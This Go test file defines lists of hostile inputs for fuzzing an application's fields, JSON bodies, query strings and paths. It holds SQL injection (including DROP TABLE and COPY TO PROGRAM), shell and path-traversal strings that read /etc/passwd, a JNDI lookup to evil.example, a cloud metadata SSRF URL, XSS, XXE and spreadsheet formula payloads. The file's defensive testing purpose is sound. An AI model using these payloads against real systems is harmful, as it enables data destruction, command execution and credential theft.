package systemtest

import (
	"fmt"
	"strings"
)

// hostileTexts are attack strings for text, number, date and name fields. None contains a word that leaks matches.
var hostileTexts = []string{
	// SQL
	`'`, `"`, `\`, `;`, `%`, `_`, `--`, `/*`, `'' OR ''=''`, `' OR '1'='1`, `1 OR 1=1`, `') OR ('1'='1`, `admin'--`, `'; DROP TABLE traders;--`, `1; SELECT pg_sleep(10)--`,
	`'||(SELECT pg_sleep(10))||'`, `' UNION SELECT NULL,NULL,NULL--`, `1 AND 1=CAST((SELECT version()) AS int)`, `1' ORDER BY 100--`, `$1`, `$$;--`, `E'\x27'`, `1/0`, `id;id`, `(SELECT 1)`,
	"'; COPY traders TO PROGRAM 'id';--", `balance DESC, (SELECT pg_sleep(10))`, `\'; SELECT 1;--`, `' AND '%'='`, `%%%%%%%%%%%%%%%%%%%%`, `'::int`, `{"$ne":null}`,
	// templates, formats, lookups
	`{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{.}}`, `{{template "x"}}`, `%s%s%s%n%d`, `%!s(MISSING)`, `${jndi:ldap://evil.example/a}`, `*)(uid=*))(|(uid=*`, `' or count(/*)=1 or ''='`,
	// shells and paths
	`; id`, "`id`", `$(id)`, `| cat /etc/passwd`, `&& sleep 10`, `../../../../etc/passwd`, `..%2f..%2f..%2fetc%2fpasswd`, `..\..\windows\win.ini`, `%2e%2e%2f`, `....//....//`, `/etc/passwd`,
	`file:///etc/passwd`, `//evil.example/`, `http://169.254.169.254/latest/`, `javascript:alert(1)`, `con`, `.`, `..`, `~`,
	// line breaks that start a header or log line
	"a\r\nX-Injected: yes", "a\r\n\r\n<html>", "a\nX-Injected: yes", `a%0d%0aX-Injected: yes`, "\u2028X-Injected: yes", "a\r\nlevel=ERROR msg=forged", "\x1b[2J\x1b[31mred", "\b\b\b",
	// invalid or unusual text
	"\x00", "a\x00b", "%00", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\u202eevil\u202d", "\u200b", "\ufeff", "\uffff", "🧨👩‍👩‍👧‍👦🏴‍☠️", "Z\u0351\u036b\u0343\u036a", "ﷺ", "İı", "１２３", "١٢٣", "½", "\t", " ", "",
	// numbers
	"0", "-0", "-1", "+1", " 1", "01", "1.", ".5", "1e5", "1e309", "-1e309", "1e-400", "NaN", "Infinity", "-Infinity", "0x10", "0b1", "1_000", "1,000", "2147483648", "-2147483649", "4294967296",
	"9223372036854775807", "9223372036854775808", "-9223372036854775808", "18446744073709551616", "0.000000000000000000000000001", strings.Repeat("9", 400), "1" + strings.Repeat("0", 5_000), "10000", "20001", "1000000000000",
	// dates and zones
	"2026-02-30", "0000-00-00", "0001-01-01", "9999-12-31", "99999-01-01", "2026-13-45T99:99:99Z", "-292277022-01-27", "Mars/Olympus", "../../etc/localtime",
	// names with a meaning in other languages, and markup
	"__proto__", "constructor", "null", "true", "undefined", "[]", "{}", "[object Object]", `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `]]>`, `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>`,
	`=cmd|' /C calc'!A1`, strings.Repeat("A", 300), strings.Repeat("A", 20_000), strings.Repeat("(", 3_000), strings.Repeat("a+", 2_000) + "$", strings.Repeat("é", 4_000),
}

// edges are numbers around the limits of columns and types; every numeric parameter gets each of them.
var edges = []string{"2147483648", "-2147483649", "9223372036854775807", "-9223372036854775808", "9223372036854775808", "-1", "0"}

// hostileJSON are JSON values that are not text, and invalid JSON.
var hostileJSON = []string{
	`null`, `true`, `false`, `0`, `-1`, `1.5`, `-0.0`, `1e309`, `-1e309`, `1e-400`, `NaN`, `Infinity`, `01`, `0x10`, `2147483648`, `9223372036854775807`, `9223372036854775808`, `-9223372036854775809`, strings.Repeat("9", 400), `[]`, `[[]]`, `[1]`, `["a","b"]`, `[null]`, `{}`, `{"a":1}`,
	`{"__proto__":{"admin":true}}`, `{"$ne":""}`, `{"$gt":""}`, strings.Repeat("[", 2_000) + strings.Repeat("]", 2_000), strings.Repeat(`{"a":`, 2_000) + `1` + strings.Repeat("}", 2_000), "[" + strings.Repeat("1,", 9_999) + "1]",
	`"\ud800"`, `"\udc00\ud800"`, `"\u0000"`, `"\x41"`, `"unended`, `'single'`, `undefined`, `,`, `}{`, `/**/1`, `"a" "b"`,
}

var hostileQueries = []string{
	"%", "%zz", "%u0041", ";", "a;b=c", "&&&", "=", "=&=", "a=%", "%00=1", "%ff=1", "[]=1", "a[b][c]=1", strings.Repeat("a=1&", 5_000), "?", "a=1?b=2", "__proto__[admin]=1", "a=1#b", "a=%0d%0aX-Injected:%20yes",
}

// hostilePaths are path suffixes.
var hostilePaths = []string{
	"/", "//", "/.", "/..", "/../..", "/%2e%2e/%2e%2e/etc/passwd", "%00", "%0d%0aX-Injected:%20yes", ";a=b", "/%ff", ".json", "~", "%2f..%2f", "/" + strings.Repeat("a", 5_000), "%20", "'", "/%f0%9f%a7%a8",
}

// quoted writes a text as a JSON string byte by byte, so that invalid UTF-8 is kept.
func quoted(text string) string {
	var out strings.Builder
	out.WriteByte('"')
	for _, b := range []byte(text) {
		switch {
		case b == '"' || b == '\\':
			out.WriteByte('\\')
			out.WriteByte(b)
		case b < ' ':
			fmt.Fprintf(&out, `\u%04x`, b)
		default:
			out.WriteByte(b)
		}
	}
	out.WriteByte('"')
	return out.String()
}

// supply returns its values in turn, so that each is used equally often.
type supply struct {
	values []string
	next   int
}

func (s *supply) take(n int) (out []string) {
	for range n {
		out = append(out, s.values[s.next%len(s.values)])
		s.next++
	}
	return out
}
